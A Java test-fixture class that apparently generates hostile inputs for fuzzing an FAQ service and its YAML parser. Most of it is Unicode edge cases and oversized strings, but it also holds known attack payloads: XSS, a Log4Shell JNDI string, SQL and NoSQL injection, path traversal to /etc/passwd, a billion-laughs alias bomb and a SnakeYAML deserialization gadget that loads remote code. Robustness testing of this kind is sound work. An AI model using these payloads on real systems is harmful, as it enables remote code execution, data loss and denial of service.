package org.pokana.faq;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Two hundred texts that nobody types who wants an answer. */
public final class Hostile {

    private static final List<String> SEEDS = List.of(
            "ф",
            "a",
            "форум ",
            "forum ",
            "(a+)+$",
            "([a-z]+)*!",
            "*:* AND \"\\ OR [a TO z] ~~ ^^ /./",
            "\u200b",
            "\u200d",
            "\ufeff",
            "\u202eформ\u202c",
            "\u2066forum\u2069",
            "🙂",
            "👨‍👩‍👧‍👦",
            "а́",
            "e\u0301\u0302\u0303",
            "\ud800",
            "\udc00",
            "\ud800\udfff",
            "\u0000",
            "\u0007\u001b[31m",
            "\r\n\t",
            "<script>alert(1)</script>",
            "&lt;b&gt;&amp;&#x0;",
            "${jndi:ldap://x}",
            "{0, plural, one{",
            "%s%n%x",
            "'; DROP TABLE faq; --",
            "{\"$where\":\"1\"}",
            "../../etc/passwd ",
            "Ⅷ½ﬁ①",
            "ﷺ",
            "İıßſ",
            "שלום ",
            "مرحبا ",
            "你好",
            "ยี่",
            "дългадумабезинтервали",
            "какдаизтрияданнитеси",
            "q[w]e\\r`");

    private Hostile() {}

    /** Each seed once, as long as a message, in a hundred thousand characters and as a megabyte; and noise of all of them. */
    public static Stream<String> texts() {
        var all = new ArrayList<String>();
        SEEDS.forEach(seed -> IntStream.of(1, 4_000, 100_000, 1_000_000)
                .forEach(length -> all.add(seed.repeat(Math.max(1, length / seed.length())))));
        var mind = new Random(5);
        for (int i = 0; i < 40; i++) {
            var noise = new StringBuilder();
            while (noise.length() < 2_000 * (i + 1)) {
                noise.append(SEEDS.get(mind.nextInt(SEEDS.size()))).append((char) mind.nextInt(0x10000));
            }
            all.add(noise.toString());
        }
        return all.stream();
    }

    /** Files that would grow, hang or run something. */
    public static Stream<String> files() {
        var laughs = new StringBuilder("- &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 12; i++) {
            laughs.append("- &a")
                    .append(i)
                    .append(" [")
                    .append(("*a" + (i - 1) + ", ").repeat(9))
                    .append("]\n");
        }
        return Stream.of(
                laughs.toString(),
                "a: &a [*a]",
                "[".repeat(1_000_000),
                "{a: ".repeat(250_000),
                "- ".repeat(500_000),
                "? ".repeat(500_000),
                "&a ".repeat(100_000),
                "! ".repeat(100_000),
                "- !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
                "\"" + "\\x41".repeat(250_000),
                "'" + "''".repeat(500_000),
                "|\n" + " x\n".repeat(300_000),
                "<<: ".repeat(250_000),
                "--- \n".repeat(200_000),
                "%YAML 9.9\n---\n- a",
                "\u0000".repeat(1_000_000),
                "\t".repeat(1_000_000),
                "#".repeat(4 * 1024 * 1024 + 1),
                "- id: " + "a".repeat(1_000_000),
                "- {" + "id: x, ".repeat(100_000) + "}");
    }
}
